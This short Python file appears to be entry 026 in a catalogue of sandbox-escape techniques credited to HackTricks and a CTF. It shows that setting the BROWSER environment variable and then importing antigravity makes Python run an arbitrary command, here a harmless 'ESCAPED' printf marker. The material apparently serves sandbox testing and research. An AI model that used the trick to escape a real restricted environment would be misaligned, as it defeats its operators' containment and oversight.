# escape: 026
# technique: set BROWSER in os.environ then import antigravity (import alone spawns)
# family: dexec
# goal: exec
# first-seen: HackTricks; CTF (hxp)
import os, webbrowser
os.environ['BROWSER'] = '/usr/bin/printf "ESCAPED\\072antigravity %s\\n"'
webbrowser._tryorder = None
import antigravity
